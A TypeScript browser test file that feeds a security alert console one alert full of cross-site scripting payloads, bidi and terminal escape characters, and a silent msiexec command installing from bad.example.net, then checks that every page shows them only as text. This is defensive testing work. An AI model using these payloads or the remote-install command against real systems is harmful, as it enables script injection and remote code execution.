/**
 * Goal: whoever causes an alert chooses its values, and none of them is ever more than text to whoever looks at it: no markup, script, link, colour
 * of a terminal, turned direction or request comes of it, on any page.
 * Method: one alert with something hostile in every field, run by a playbook so that it is found in evidence, questions, context, war room and
 * indicators too; every view is walked. Elsewhere: values as text by themselves (`text/defang.test.ts`), in commands and queries (`tests/security.test.ts`).
 */
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { LAB_CORTEX } from '../../src/apps/cli/lab-instances.ts';
import type { Json } from '../../src/core/base/json.ts';
import { goWithin, tooWide } from './browser.ts';
import { Desk } from './support.ts';
import { settled, subjectOf, VIEWS, type Subject } from './views.ts';

vi.setConfig({ testTimeout: 60_000, hookTimeout: 180_000 });

const ID = '<b>71666</b>';
/** What a page would do that took a value for more than text. */
const MARKUP = [
  '<img src=x onerror="hit()">',
  '<script>hit()</script>',
  '<svg onload="hit()">',
  '"\'><iframe srcdoc="<script>parent.hit()</script>">',
  '</title></style></textarea><a href="javascript:hit()">',
  '[text](javascript:hit()) ![](http://198.51.100.9/pixel.png)',
  '{{constructor.constructor("hit()")()}} ${hit()}',
].join(' ');
/** Of the name of an alert, or of its id. */
const AS_TEXT = /<img src=x onerror="hit\(\)">|<([bi])>7166\d<\/\1>/;
const TURNED = 'invoice\u202Egnp.exe\u2066\u200B';
const TERMINAL = '\u001B[31mred\u001B]8;;http://198.51.100.9/\u0007link\u001B]8;;\u0007\u0000';
const LONG = 'A'.repeat(60_000);
/** Nothing that turns, hides or commands may reach the reader as itself. */
const UNSEEN = /(?![\n\r\t])\p{Cc}|\p{Cf}/u;

const value = (field: string): string => `${field} ${MARKUP} ${TURNED} ${TERMINAL}`;

/** Every field of the sample with something hostile in it, in the shape that the field has; and fields that nobody knows. */
function hostile(sample: Readonly<Record<string, Json>>): Record<string, Json> {
  const turned = Object.entries(sample).map(([field, was]): [string, Json] => [
    field,
    Array.isArray(was) ? [value(field), LONG] : value(field),
  ]);
  return {
    ...Object.fromEntries(turned),
    id: ID,
    [`<img src=x onerror=hit()>${TURNED}`]: value('unknown'),
    nested: { [MARKUP]: [{ deep: value('nested') }, null, 1e308, true] },
    targetprocesscmd: [`msiexec /i http://bad.example.net/<img/src=x/onerror=hit()>.msi /qn ${value('cmd')}`],
    agentostype: 'AGENT_OS_WINDOWS',
  };
}

let desk: Desk;
let ada: Page;
let subject: Subject;

beforeAll(async () => {
  desk = await Desk.open({ tenant: { faults: [] } });
  const { page, context } = await desk.administrator();
  ada = page;
  await context.addInitScript(() =>
    Object.assign(globalThis, { hit: () => Object.assign(globalThis, { struck: true }) }),
  );
  const sample = desk.alerts.find(({ id }) => id === '71001') ?? {};
  const playbook = 'Msiexec execution of an executable from an uncommon remote location';
  const { alert, run } = await desk.house.deliver(hostile(sample), { instance: LAB_CORTEX, playbook });
  // A second one of the same host, whose values are hostile where a playbook goes on and asks.
  const asks = { id: '<i>71667</i>', hostname: value('host'), username: [value('user')], cgocmd: [value('cgocmd')] };
  const { run: asking } = await desk.deliver('71001', asks, { playbook });
  const { run: byHand } = await desk.deliver('71002', { id: '<i>71668</i>', hostname: value('host') });
  await Promise.all([run, asking, byHand].map((each) => desk.house.atRest(each)));
  await desk.house.call(`/api/v1/alerts/${alert.key}/notes`, { text: value('note') });
  await desk.house.call('/api/v1/cases', {
    title: value('case').slice(0, 500),
    summary: value('summary'),
    alerts: [alert.key],
  });
  await desk.house.call(`/api/v1/alerts/${alert.key}/files`, { name: `${MARKUP}.html`, content: btoa(MARKUP) });
  subject = await subjectOf(desk.house, ID);
  await ada.goto(desk.url);
});

afterAll(async () => {
  await desk.close();
});

/** What only markup of a value can have made: the console has no such element, and follows no such address. */
const MADE = [
  ...['img', 'script', 'iframe', 'object', 'embed', 'b > script'].map((made) => `main ${made}`),
  // The account leads to the console's own other name.
  'main a[href^="http"]:not([href^="http://localhost:"])',
  '[onerror]',
  '[onload]',
  '[srcdoc]',
  'a[href^="javascript:" i]',
  'a[href^="data:" i]',
].join(', ');
const LOOK = `({
  struck: 'struck' in globalThis,
  made: [...document.querySelectorAll(${JSON.stringify(MADE)})].map((node) => node.outerHTML.slice(0, 200)),
  texts: [
    document.title,
    document.body.innerText,
    ...[...document.querySelectorAll('[title], [aria-label]')].flatMap((node) => [node.title ?? '', node.ariaLabel ?? '']),
  ],
})`;

/** Whatever a hostile value has made of the page. */
async function harm(page: Page): Promise<readonly string[]> {
  const { struck, made, texts } = await page.evaluate<{ struck: boolean; made: string[]; texts: string[] }>(LOOK);
  const wider = await tooWide(page);
  return [
    ...(struck ? ['a script ran'] : []),
    ...made.map((html) => `made of a value: ${html}`),
    ...texts.flatMap((text) => {
      const at = text.search(UNSEEN);
      return at < 0 ? [] : [`a mark that is not seen: ${JSON.stringify(text.slice(Math.max(0, at - 30), at + 10))}`];
    }),
    ...(wider > 0 ? [`${wider} px wider than the window`] : []),
  ];
}

describe('whatever an alert holds stays text', () => {
  test.each(VIEWS)('$name', async (view) => {
    const path = view.path(subject);
    if (path === undefined) throw new Error('the hostile alert leads to no such page');
    await goWithin(ada, path);
    await settled(ada, view);
    const found = await harm(ada);
    const isText = AS_TEXT.test(await ada.getByRole('main').innerText());
    await view.after?.(ada);
    expect({ found, isText }).toEqual({ found: [], isText: view.ofAlert === true || isText });
  });

  test('the palette that searches alerts', async () => {
    await ada.keyboard.press('Control+k');
    await ada.getByRole('combobox').fill('onerror');
    expect(await harm(ada)).toEqual([]);
    await ada.keyboard.press('Escape');
  });
});

test('no dialog opened, no other host was asked, no policy had something to refuse', () => {
  expect(desk.foreign).toEqual([]);
  expect(desk.complaints).toEqual([]);
});
